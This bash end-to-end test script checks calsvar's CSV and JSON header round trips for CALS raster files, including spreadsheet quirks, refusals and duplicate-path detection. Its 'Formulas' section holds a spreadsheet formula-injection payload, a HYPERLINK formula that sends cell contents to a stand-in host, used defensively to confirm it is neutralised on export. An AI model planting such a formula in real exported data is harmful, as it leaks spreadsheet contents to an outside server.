#!/usr/bin/env bash
# calsvar's table round trip under Wine, through ./calsvar: get --csv (or
# --json) of a folder, edits as a spreadsheet or a script makes them, and
# set --from back into the files. Expects what calsvar_end_to_end.sh does.
set -uo pipefail
root=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
source "$root/tests/tools/calsvar_end_to_end_lib.sh"

# A copy of the samples to write into, and one to hold them against.
mkdir -p "$work/files" "$work/tables"
cp samples/*.cal "$work/files/"
mkdir -p "$work/files/archive"
cp samples/archive/SCAN-0042.CG4 "$work/files/archive/"
cp -r "$work/files" "$work/original"
unchanged() {  # unchanged WHAT: no byte of any file changed
  checks=$((checks + 1))
  diff -r "$work/original" "$work/files" >/dev/null || fail "$1 changed a file"
}

# The round trip changes nothing.
expect 0 get --csv "$work/files"
cp "$work/out" "$work/tables/all.csv"
# Columns in order of first appearance: one sample spells a record docls.
line 1 $'file,srcdocid,dstdocid,txtfilid,figid,srcgph,doccls,rtype,rorient,rpelcnt,rdensty,notes,width,height,colordepth,orientation,lineprogression,pelwidth,pelheight,density,docls\r'
has out $'"Flange DN80, sheet 1 of 1",1654,2339,1,000,270,001654,002339,0200,\r'
expect 0 set --from "$work/tables/all.csv"
line 1 "$work/files/blank-page.cal"$'\tunchanged\t'
has err '4 files: 0 saved, 4 unchanged, 0 refused, 0 failed'
unchanged "the round trip"

# An untouched JSON round trip changes nothing either, empty values
# included (one sample's notes is empty).
expect 0 get --json "$work/files"
cp "$work/out" "$work/tables/all.jsonl"
expect 0 set --from "$work/tables/all.jsonl"
has err '4 files: 0 saved, 4 unchanged, 0 refused, 0 failed'
unchanged "the JSON round trip"

# A table through a spreadsheet: numbers without their leading zeros,
# every cell quoted, CRLF; one notes cell changed per file. Only the notes
# record changes, and check finds what it found before. (Files whose
# records are out of the standard's form are left out here: any save
# rewrites those records in normal form, which the dry run shows.)
spreadsheet_round_trip() {  # FOLDER: the files to pass through
  local folder=$1
  expect 0 get --csv "$folder"
  python3 - "$work/out" "$work/tables/sheet.csv" <<'PY'
import csv, re, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
notes = rows[0].index("notes")
rows = [[str(int(c)) if re.fullmatch(r"\d+", c) else c for c in row] for row in rows]
for row in rows[1:]:
    row[notes] += " (checked)"
with open(sys.argv[2], "w", newline="", encoding="utf-8") as out:
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
PY
  cp -r "$folder" "$work/before-sheet"
  expect 0 check "$folder"
  cp "$work/out" "$work/check-before"
  expect 0 set --from "$work/tables/sheet.csv"
  has err 'cells read as no change: the file'"'"'s number without its leading zeros, as spreadsheets save numbers'
  lacks out $'\trefused\t'
  local file
  for file in "$folder"/*; do
    [[ -f $file ]] || continue
    same "the spreadsheet round trip changed more than notes in $file" -n 1280 "$work/before-sheet/${file##*/}" "$file"
    same "the spreadsheet round trip changed the raster of $file" -i 1408 "$work/before-sheet/${file##*/}" "$file"
  done
  expect 0 check "$folder"
  same "the spreadsheet round trip changed what check finds" "$work/check-before" "$work/out"
  rm -rf "$work/before-sheet"
}
mkdir -p "$work/sheet"
cp samples/drawing-a4.cal samples/blank-page.cal "$work/sheet/"
# Files as ImageMagick and GDAL write them, where they are installed.
if command -v convert >/dev/null && command -v gdal_translate >/dev/null; then
  convert -size 300x200 xc:white -fill black -draw 'rectangle 20,20 120,90' -monochrome "$work/page.tif"
  convert "$work/page.tif" "CAL:$work/sheet/imagemagick.cal"
  gdal_translate -q -of CALS "$work/page.tif" "$work/sheet/gdal.cal" 2>/dev/null
fi
spreadsheet_round_trip "$work/sheet"

# Edits as a spreadsheet saves them: a byte-order mark, LF line ends,
# quotes, commas and a line break inside cells, Latin-1 letters; relative
# paths taken against the table's folder; columns left empty change
# nothing.
printf '\xef\xbb\xbffile,notes,srcdocid\n../files/drawing-a4.cal,"Flange ""DN100"", sheet 1\nrevised by Zoë",\n../files/archive/SCAN-0042.CG4,,SCAN-0043\n' \
  >"$work/tables/edit.csv"
expect 0 set --from "$work/tables/edit.csv" --dry-run --allow-control
line 1 "$work/tables/../files/drawing-a4.cal"$'\twould-save\tnotes: "Flange DN80, sheet 1 of 1" → "Flange \\"DN100\\", sheet 1\\nrevised by Zoë"'
has err 'dry run: 2 would be saved, no byte written'
unchanged "--dry-run"
# Without --allow-control the line break refuses its file; the other file
# is written all the same.
expect 1 set --from "$work/tables/edit.csv"
has out $'drawing-a4.cal\trefused\tnotes: it holds a line feed (U+000A) at character 24'
has err '2 files: 1 saved, 0 unchanged, 1 refused, 0 failed'
same "a refused line break changed its file" "$work/original/drawing-a4.cal" "$work/files/drawing-a4.cal"
expect 0 set --from "$work/tables/edit.csv" --allow-control
has err '2 files: 1 saved, 1 unchanged, 0 refused, 0 failed'
expect 0 get --json "$work/files/drawing-a4.cal" "$work/files/archive/SCAN-0042.CG4" --name notes --name srcdocid
line 1 '{"file": "'"$work"'/files/drawing-a4.cal", "variables": [{"name": "notes", "found": true, "value": "Flange \"DN100\", sheet 1\nrevised by Zoë"}, {"name": "srcdocid", "found": true, "value": "DRW-1001-A"}]}'
line 2 '{"file": "'"$work"'/files/archive/SCAN-0042.CG4", "variables": [{"name": "notes", "found": true, "value": "Archive scan"}, {"name": "srcdocid", "found": true, "value": "SCAN-0043"}]}'
same "bytes after the first 1408 changed" -i 1408 samples/drawing-a4.cal "$work/files/drawing-a4.cal"
cp -r "$work/files/." "$work/original/"

# JSON lines as get --json writes them, from standard input, with CRLF.
expect 0 get --json "$work/files/blank-page.cal" --name notes
sed 's/"Blank page"/"Blank page, checked"/; s/$/\r/' "$work/out" >"$work/tables/edit.jsonl"
checks=$((checks + 1))
./calsvar set --from - <"$work/tables/edit.jsonl" >"$work/out" 2>"$work/err" || fail "set --from - exited $?"
line 1 "$work/files/blank-page.cal"$'\tsaved\tnotes: "Blank page" → "Blank page, checked"'
cp -r "$work/files/." "$work/original/"

# What cannot arrive as asked changes no byte of its file: exit 1 with each
# name and what it would have become; the other files are still written.
printf 'file,notes,rtype,srcdocid\n%s,%s,,\n%s,,2,\n%s,,,Zażółć\n%s,,,DRW-2\n' \
  "$work/files/drawing-a4.cal" "$(printf 'y%.0s' {1..130})" "$work/files/blank-page.cal" \
  "$work/files/unusual-records.cal" "$work/files/archive/SCAN-0042.CG4" >"$work/tables/bad.csv"
expect 1 set --from "$work/tables/bad.csv" --json
has out '"status": "refused", "variables": [{"name": "notes", "old": "Flange \"DN100\", sheet 1\nrevised by Zoë", "new": "'"$(printf 'y%.0s' {1..121})"'", "reason": "cut to 121 characters: the record holds no more"}]}'
has out '"reason": "read-only: the tag configuration makes it so"'
has out "U+017C"
has out '{"file": "'"$work"'/files/archive/SCAN-0042.CG4", "status": "saved", "variables": [{"name": "srcdocid", "old": "SCAN-0043", "new": "DRW-2"}], "records": [{"record": 1, "old": "srcdocid: SCAN-0043", "new": "srcdocid: DRW-2"}]}'
has err '4 files: 1 saved, 0 unchanged, 3 refused, 0 failed'
checks=$((checks + 1))
diff -r -x SCAN-0042.CG4 "$work/original" "$work/files" >/dev/null || fail "a refused row changed its file"
cp -r "$work/files/." "$work/original/"

# A table that cannot be used is refused whole, before anything is written.
printf 'file,notes\n%s,changed\n%s,again\n' "$work/files/drawing-a4.cal" "$work/files/./drawing-a4.cal" \
  >"$work/tables/twice.csv"
expect 2 set --from "$work/tables/twice.csv"
has err 'is named twice (also on line 2); nothing was written'
printf 'notes,srcdocid\nx,y\n' >"$work/tables/nofile.csv"
expect 2 set --from "$work/tables/nofile.csv"
has err 'the table has no "file" column'
unchanged "an unusable table"
# A file that cannot be loaded: failed, exit 3; the others go on.
printf 'file,notes\n%s,x\nmissing.cal,y\n' "$work/files/blank-page.cal" >"$work/tables/missing.csv"
expect 3 set --from "$work/tables/missing.csv"
has out "$work/tables/missing.cal"$'\tfailed\tcannot be loaded (0x80040228'
has err '2 files: 1 saved, 0 unchanged, 0 refused, 1 failed'


# One path rule: get names every file by its full path, so a table written
# in one folder and used from another still names the same files; a
# backup beside the table (here another picture) is not touched.
mkdir -p "$work/site/archive" "$work/site/out/archive"
cp samples/drawing-a4.cal "$work/site/archive/a.cal"
cp samples/blank-page.cal "$work/site/out/archive/a.cal"
cd "$work/site"
expect 0 get --json archive/
cp "$work/out" out/headers.jsonl
has out '{"file": "'"$work"'/site/archive/a.cal", '
expect 0 get --csv archive/
sed 's/"Flange DN80, sheet 1 of 1"/Moved/' "$work/out" >out/headers.csv
cd "$root"
has out "$work/site/archive/a.cal,DRW-1001-A,"
expect 0 set --from "$work/site/out/headers.jsonl"
has err '1 files: 0 saved, 1 unchanged, 0 refused, 0 failed'
expect 0 set --from "$work/site/out/headers.csv"
line 1 "$work/site/archive/a.cal"$'\tsaved\tnotes: "Flange DN80, sheet 1 of 1" → "Moved"'
same "set --from wrote the file beside the table" samples/blank-page.cal "$work/site/out/archive/a.cal"

# One file under two spellings is refused whole, naming both rows: a
# trailing dot, which Windows drops, and a hard link.
cp -r "$work/files/." "$work/original/"
ln "$work/files/blank-page.cal" "$work/hard-link.cal"
printf 'file,notes\n%s,one\n%s,two\n%s,three\n' "$work/files/drawing-a4.cal" "$work/files/blank-page.cal" \
  "$work/hard-link.cal" >"$work/tables/link.csv"
expect 2 set --from "$work/tables/link.csv"
has err "lines 3 and 4 name one file, as \"$work/files/blank-page.cal\" and \"$work/hard-link.cal\"; nothing was written"
printf 'file,notes\n%s,one\n%s,two\n' "$work/files/drawing-a4.cal" "$work/files/drawing-a4.cal." >"$work/tables/dot.csv"
expect 2 set --from "$work/tables/dot.csv"
has err 'lines 2 and 3 name one file'
printf 'file,notes\n%s,one\n%s ,two\n' "$work/files/drawing-a4.cal" "$work/files/drawing-a4.cal" >"$work/tables/blank.csv"
expect 2 set --from "$work/tables/blank.csv"
has err 'lines 2 and 3 name one file'
unchanged "a table that names one file twice"

# Formulas: a value a spreadsheet would evaluate is exported as text with
# a leading "'", and set --from reads back the value exactly.
mkdir -p "$work/inj"
cp samples/blank-page.cal "$work/inj/inj.cal"
expect 0 set "$work/inj/inj.cal" 'notes==HYPERLINK("http://x.example/?"&B1,"open")'
cp "$work/inj/inj.cal" "$work/inj-before.cal"
expect 0 get --csv "$work/inj" --name notes
line 2 "$work/inj/inj.cal,\"'=HYPERLINK(\"\"http://x.example/?\"\"&B1,\"\"open\"\")\""$'\r'
cp "$work/out" "$work/tables/inj.csv"
expect 0 set --from "$work/tables/inj.csv"
has err '1 files: 0 saved, 1 unchanged, 0 refused, 0 failed'
same "the formula round trip changed the file" "$work/inj-before.cal" "$work/inj/inj.cal"

# Separators: ";" as German and French spreadsheets write it (every cell
# quoted, too) and tabs; the summary names the one used. get --csv writes
# ";" when asked.
expect 0 get --csv --csv-separator ';' "$work/inj" --name notes --name srcdocid
line 1 $'file;notes;srcdocid\r'
cp "$work/out" "$work/tables/semicolon.csv"
expect 0 set --from "$work/tables/semicolon.csv"
has err '1 files: 0 saved, 1 unchanged, 0 refused, 0 failed; cells separated by ";"'
printf '"file";"notes"\r\n"%s";"Leer; geprüft"\r\n' "$work/inj/inj.cal" >"$work/tables/german.csv"
expect 0 set --from "$work/tables/german.csv"
has err '1 files: 1 saved, 0 unchanged, 0 refused, 0 failed; cells separated by ";"'
printf 'file\tnotes\n%s\tLeer; geprüft\n' "$work/inj/inj.cal" >"$work/tables/tabs.tsv"
expect 0 set --from "$work/tables/tabs.tsv"
has err '1 files: 0 saved, 1 unchanged, 0 refused, 0 failed; cells separated by tabs'

# A file that does not look like a CALS header adds no columns to a
# table, only its path; its row, and its untouched JSON line, come back
# unchanged.
mkdir -p "$work/mixed"
cp samples/drawing-a4.cal "$work/mixed/"
expect 0 get --csv "$work/mixed"
cp "$work/out" "$work/tables/calsonly.csv"
{ printf '%-128s%-128s' 'Dear reader: hello' 'P.S.: bye'; head -c 2000 /dev/zero | tr '\0' ' '; } >"$work/mixed/letter.cal"
cp "$work/mixed/letter.cal" "$work/letter-before.cal"
expect 0 get --csv "$work/mixed"
line 1 "$(head -1 "$work/tables/calsonly.csv")"
line 3 "$work/mixed/letter.cal$(head -1 "$work/tables/calsonly.csv" | tr -cd ,)"$'\r'
has err "$work/mixed/letter.cal does not look like a CALS header"
cp "$work/out" "$work/tables/mixed.csv"
expect 0 set --from "$work/tables/mixed.csv"
has err '2 files: 0 saved, 2 unchanged, 0 refused, 0 failed'
expect 0 get --json "$work/mixed/letter.cal"
cp "$work/out" "$work/tables/letter.jsonl"
expect 0 set --from "$work/tables/letter.jsonl"
line 1 "$work/mixed/letter.cal"$'\tunchanged\t'
same "an untouched round trip changed a file that is no CALS header" "$work/letter-before.cal" "$work/mixed/letter.cal"

finish
